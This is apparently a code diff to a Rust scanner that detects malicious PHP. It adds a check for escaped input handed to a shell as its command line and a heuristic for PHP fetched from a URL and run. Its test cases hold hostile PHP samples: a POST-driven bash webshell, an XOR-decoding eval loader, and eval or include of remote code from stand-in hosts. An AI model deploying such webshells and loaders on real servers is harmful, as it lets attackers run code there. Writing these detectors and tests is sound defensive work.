@@ -640,18 +640,49 @@ fn destructured(s: &str) -> Option<(Vec<&str>, &str)> {
     (!names.is_empty()).then_some((names, value))
 }
 
-/// Calls whose value is their arguments' text, rearranged.
+/// Calls whose value is their arguments' text, rearranged, split or turned character by
+/// character (`chr(ord($c) ^ $k)`, a decoding loop's step).
 const COMPOSING_CALLS: &[&str] = &[
     "sprintf(",
     "vsprintf(",
     "implode(",
     "join(",
     "explode(",
+    "str_split(",
+    "preg_split(",
+    "array_slice(",
     "str_replace(",
     "strtr(",
     "urldecode(",
     "rawurldecode(",
+    "chr(",
+    "ord(",
 ];
+
+/// Whether `value` hands escaped input to a shell as its whole command line:
+/// `'/bin/bash -c ' . escapeshellarg($c)`. Quoting makes the input one argument, and the
+/// argument of `-c` is what the shell runs.
+fn escaped_into_shell(value: &str, tainted: &[String], composed: &[String]) -> bool {
+    const SHELL_C: &[&str] = &[
+        "sh -c",
+        "bash -c",
+        "zsh -c",
+        "cmd /c",
+        "cmd.exe /c",
+        "powershell -c",
+        "powershell -command",
+        "pwsh -c",
+    ];
+    let parts: Vec<&str> = concatenated(near(value, 4096)).take(64).collect();
+    parts.windows(2).any(|w| {
+        let shell = w[0].trim().trim_matches(['\'', '"']).trim_end();
+        SHELL_C.iter().any(|c| shell.ends_with(c))
+            && ["escapeshellarg(", "escapeshellcmd("]
+                .iter()
+                .find_map(|e| w[1].trim().strip_prefix(e))
+                .is_some_and(|inner| holds_input(inner, tainted, composed, 0))
+    })
+}
 
 /// One part of a concatenation, for `composes_input`: `depth` is how many array literals or
 /// composing calls it is inside.
@@ -1116,11 +1147,14 @@ fn php(t: &str, hits: &mut Vec<Hit>, late: &dyn Fn() -> bool) -> bool {
             // `system("ls " . $d)`, `system($e)` after `$e = $d . " 2>&1"`, or
             // `pcntl_exec('/bin/sh', array('-c', $d))`. Not through an escaping call.
             if !commented
-                && !held.any(ESCAPE_WORDS..ESCAPE_WORDS + 3)
                 && (!tainted.is_empty() || !composed.is_empty() || input.is_some())
-                && run_arguments(s, sink)
-                    .iter()
-                    .any(|a| composes_input(a, &tainted, &composed))
+                && run_arguments(s, sink).iter().any(|a| {
+                    if held.any(ESCAPE_WORDS..ESCAPE_WORDS + 3) {
+                        escaped_into_shell(a, &tainted, &composed)
+                    } else {
+                        composes_input(a, &tainted, &composed)
+                    }
+                })
             {
                 hits.push(hit(
                     "scan.heuristic.input_to_exec",
@@ -1355,6 +1389,10 @@ fn php(t: &str, hits: &mut Vec<Hit>, late: &dyn Fn() -> bool) -> bool {
     capabilities(t, seen, hits);
     exec_fallbacks(t, hits);
     php_reverse_shell(t, hits);
+    // `://` also where the scheme is split: `'ht' . 'tp://…'`.
+    if find(t, "://").is_some() {
+        remote_code(t, hits);
+    }
     if seen.any(INPUT_WORDS..INPUT_WORDS + PHP_INPUT.len()) {
         let sinks: Vec<&str> = PHP_EXEC
             .iter()
@@ -1547,6 +1585,107 @@ fn called_back(t: &str, name: &str, (tainted, composed): (&[String], &[String]))
             (input && args.iter().any(|a| a.trim() == quoted)).then_some(from + p)
         })
     })
+}
+
+/// `eval(file_get_contents('http://…'))`, `include 'http://…'`: PHP fetched from a server and
+/// run, directly or through the variables it is kept in (the first 100,000 statements). A
+/// loader that keeps the webshell itself off the disk, or a backdoor of whoever holds that
+/// server; applications load their code from their own files.
+fn remote_code(t: &str, hits: &mut Vec<Hit>) {
+    // A URL literal, or literal pieces joined into one (`'ht' . 'tp://…'`).
+    let url = |v: &str| {
+        let mut text = String::new();
+        for part in concatenated(near(bare_php_value(v), 1024)).take(16) {
+            // The last part runs on to the end of the call: `'http://…');`.
+            let part = part.trim().trim_end_matches([')', ';']).trim_end();
+            let q = part.chars().next().filter(|c| matches!(c, '\'' | '"'));
+            match q.and_then(|q| part[1..].strip_suffix(q)) {
+                Some(inner) if !inner.contains(['\'', '"']) => text.push_str(inner),
+                _ => break,
+            }
+            if text.len() > 8 {
+                break;
+            }
+        }
+        ["http://", "https://", "ftp://"]
+            .iter()
+            .any(|s| text.starts_with(s))
+    };
+    const FETCHES: &[&str] = &[
+        "file_get_contents(",
+        "file(",
+        "fopen(",
+        "stream_get_contents(fopen(",
+    ];
+    let mut urls: Vec<&str> = Vec::new();
+    let mut fetched: Vec<&str> = Vec::new();
+    // Whether `v` fetches a URL: a fetch call of a URL or of a variable holding one, or
+    // `curl_exec(`.
+    let fetches = |v: &str, urls: &[&str]| {
+        let v = crate::php_tricks::unwrapped(v);
+        v.starts_with("curl_exec(")
+            || FETCHES.iter().any(|f| {
+                v.strip_prefix(f).is_some_and(|arg| {
+                    url(arg)
+                        || urls
+                            .iter()
+                            .any(|u| starts_with_name(bare_php_value(arg), u))
+                })
+            })
+    };
+    for (n, s) in php_statements(t).enumerate() {
+        if n >= 100_000 {
+            break;
+        }
+        if let Some((var, rhs)) = assigned_variable(s) {
+            if url(rhs) && urls.len() < 16 {
+                urls.push(var);
+            } else if fetches(rhs, &urls) && fetched.len() < 16 {
+                fetched.push(var);
+            }
+        }
+        let lead = statement_start(s);
+        let included = ["include", "require"]
+            .iter()
+            .find_map(|i| lead.strip_prefix(i))
+            .map(|r| r.trim_start_matches("_once"))
+            .filter(|r| r.starts_with([' ', '(', '\'', '"']));
+        let run = ["eval(", "assert("].iter().find_map(|e| {
+            find_all(s, e)
+                .find(|&p| plain_name_at(s, p))
+                .map(|p| &s[p + e.len()..])
+        });
+        let reached = match (included, run) {
+            (Some(arg), _) => {
+                let arg = bare_php_value(arg);
+                url(arg) || urls.iter().any(|u| starts_with_name(arg, u))
+            }
+            // `eval('?>' . $code)`: any part of what is evaluated.
+            (None, Some(arg)) => concatenated(near(arg, 4096)).take(16).any(|part| {
+                // The variable whole, not a test of it (`assert($page !== false)`).
+                let part = crate::php_tricks::unwrapped(part.trim());
+                fetches(part, &urls)
+                    || fetched.iter().any(|f| {
+                        part.strip_prefix(f).is_some_and(|r| {
+                            r.trim_matches(|c: char| c == ')' || c == ';' || c.is_whitespace())
+                                .is_empty()
+                        })
+                    })
+            }),
+            (None, None) => false,
+        };
+        if reached {
+            let at = s.as_ptr() as usize - t.as_ptr() as usize;
+            hits.push(hit(
+                "scan.heuristic.remote_code",
+                Severity::High,
+                "PHP runs code fetched from a URL",
+                "the script downloads PHP from a server and runs it (`eval` or `include` of a URL's content): whoever holds that server runs code here, and the webshell itself never touches this disk".into(),
+                at,
+            ));
+            return;
+        }
+    }
 }
 
 /// A PHP reverse or bind shell: a network socket, a process with pipes, and a shell to run
@@ -3124,6 +3263,22 @@ mod tests {
                 "<?php $cfg = ['h' => $_POST['h'] ?? '', 'a' => $_POST['a'] ?? ''];\nextract($cfg);\nif ($h) { echo $h($a); }",
                 "scan.heuristic.request_function",
             ),
+            (
+                "<?php $c = $_POST['cmd'] ?? 'id';\n$p = proc_open('/bin/bash -c ' . escapeshellarg($c), [1 => ['pipe', 'w']], $pipes);",
+                "scan.heuristic.input_to_exec",
+            ),
+            (
+                "<?php $k = 'x7'; $p = $_POST[$k];\n$d = '';\nforeach (str_split(base64_decode($p)) as $i => $ch) { $d .= chr(ord($ch) ^ ord($k[$i % 2])); }\neval($d);",
+                "scan.heuristic.input_to_exec",
+            ),
+            (
+                "<?php\n$x = file_get_contents('http://update.example.net/x.txt');\neval('?>' . $x);",
+                "scan.heuristic.remote_code",
+            ),
+            (
+                "<?php\n$remote = 'ht' . 'tp://198.51.100.7/s.txt';\ninclude $remote;",
+                "scan.heuristic.remote_code",
+            ),
         ];
         for (page, check) in flagged {
             assert_eq!(ids(ScriptKind::Php, page), [check], "{page}");
@@ -3148,6 +3303,11 @@ mod tests {
             "<?php function opt($k) { return $GLOBALS['conf'][$k]; }\nsystem(opt('backup_cmd'));",
             // An array literal of fixed values, extracted.
             "<?php $cfg = ['h' => 'strtoupper', 'a' => 'x'];\nextract($cfg);\necho $h($a);",
+            // Escaped input as one argument of a program, not a shell's command line.
+            "<?php $f = $_GET['f'];\nexec('/usr/bin/convert ' . escapeshellarg($f) . ' out.png');",
+            // A fetched page tested, shown or included from the application's own files.
+            "<?php $page = file_get_contents('https://api.example.org/v1');\nassert($page !== false);\necho htmlspecialchars($page);",
+            "<?php include 'lib/http.php'; $u = 'https://example.org/'; echo file_get_contents($u);",
         ];
         for page in quiet {
             let found = ids(ScriptKind::Php, page);
